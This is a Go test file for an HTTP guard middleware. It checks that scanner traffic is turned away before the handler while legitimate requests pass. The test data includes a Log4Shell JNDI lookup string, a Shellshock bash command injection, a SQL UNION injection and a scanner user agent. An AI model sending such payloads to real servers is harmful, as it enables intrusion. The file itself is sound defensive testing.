package httpguard

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestGuardUserAgentAndRoutes runs requests through a real HTTP server
// behind the guard with the media core's routes: payloads in the
// User-Agent and paths the application does not serve are turned away
// before the handler; odd-looking legitimate requests reach it.
func TestGuardUserAgentAndRoutes(t *testing.T) {
	routes := MustParseRoutes("/", "/static/**", "/whip", "/whip/*", "/whip/*/events", "/metrics", "/-/healthy", "/-/ready")
	rec := &recorder{}
	var reached []string
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached = append(reached, r.Method+" "+r.URL.RequestURI())
		w.WriteHeader(http.StatusNoContent)
	})
	srv := httptest.NewServer(newGuard(t, Config{}, rec, WithRoutes(routes)).Wrap(next))
	defer srv.Close()
	tests := []struct {
		method, target, ua string
		want               int
	}{
		{"GET", "/", "${jndi:ldap://198.51.100.9/a}", http.StatusNotFound},
		{"GET", "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", http.StatusNotFound},
		{"GET", "/", "() { :; }; /bin/bash -c id", http.StatusNotFound},
		{"PUT", "/SDK/webLanguage", "Mozilla/5.0", http.StatusNotFound},
		{"GET", "/?id=1+UNION+SELECT+1,2", "Mozilla/5.0", http.StatusNotFound},
		{"OPTIONS", "/whip", "Mozilla/5.0 (Macintosh) Safari/605.1.15", http.StatusNoContent},
		{"HEAD", "/", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", http.StatusNoContent},
		{"GET", "/-/healthy", "ELB-HealthChecker/2.0", http.StatusNoContent},
		{"GET", "/robots.txt", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", http.StatusNoContent},
		{"GET", "/?utm_source=newsletter&utm_campaign=spring_sale&q=select+a+plan", "Mozilla/5.0", http.StatusNoContent},
	}
	for _, tt := range tests {
		req, err := http.NewRequestWithContext(t.Context(), tt.method, srv.URL+tt.target, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("User-Agent", tt.ua)
		resp, err := srv.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tt.want {
			t.Errorf("%s %s (UA %q): status %d, want %d", tt.method, tt.target, tt.ua, resp.StatusCode, tt.want)
		}
	}
	want := "scanner 127.0.0.1 jndi_lookup|scanner 127.0.0.1 scanner_agent|scanner 127.0.0.1 cgi_injection|" +
		"scanner 127.0.0.1 unknown_route|scanner 127.0.0.1 sql_injection"
	if got := strings.Join(rec.list(), "|"); got != want {
		t.Errorf("observer saw %q, want %q", got, want)
	}
	if len(reached) != 5 {
		t.Errorf("the handler saw %q, want the 5 legitimate requests", reached)
	}
}

func TestParseRoutes(t *testing.T) {
	r := MustParseRoutes("/", "/whip", "/whip/*", "/whip/*/events", "/static/**", "/assets/*.js", "/a/**/z")
	tests := []struct {
		target string
		want   bool
	}{
		{"/", true}, {"/?utm_source=x", true}, {"/whip", true}, {"/whip/abc", true},
		{"/whip/abc/events", true}, {"/whip/abc/other", false}, {"/whip/", true}, {"/whipx", false},
		{"/static", true}, {"/static/", true}, {"/static/js/app.js", true}, {"/staticx", false},
		{"/assets/index-BxK2.js", true}, {"/assets/index.css", false}, {"/a/z", true}, {"/a/b/c/z", true},
		{"/a/b/c", false}, {"/robots.txt", true}, {"/.well-known/acme-challenge/x", true},
		{"/favicon.ico", true}, {"/wp-login.php", false}, {"*", true}, {"", true}, {"/x#frag", false},
	}
	for _, tt := range tests {
		if got := r.Serves(tt.target); got != tt.want {
			t.Errorf("Serves(%q) = %v, want %v", tt.target, got, tt.want)
		}
	}
	for _, bad := range [][]string{nil, {"whip"}, {"/a?b"}, {"/a/**b"}} {
		if _, err := ParseRoutes(bad); err == nil {
			t.Errorf("ParseRoutes(%q) accepted", bad)
		}
	}
}

func TestClassifierDoesNotAllocate(t *testing.T) {
	c := NewClassifier(MustParseRoutes("/", "/static/**", "/whip", "/whip/*", "/whip/*/events"))
	for _, r := range benchRequestsUA {
		if n := testing.AllocsPerRun(10, func() { c.Classify(r.method, r.target, r.ua) }); n != 0 {
			t.Errorf("Classify(%q, %q, %q) allocates %v times", r.method, r.target, r.ua, n)
		}
	}
}
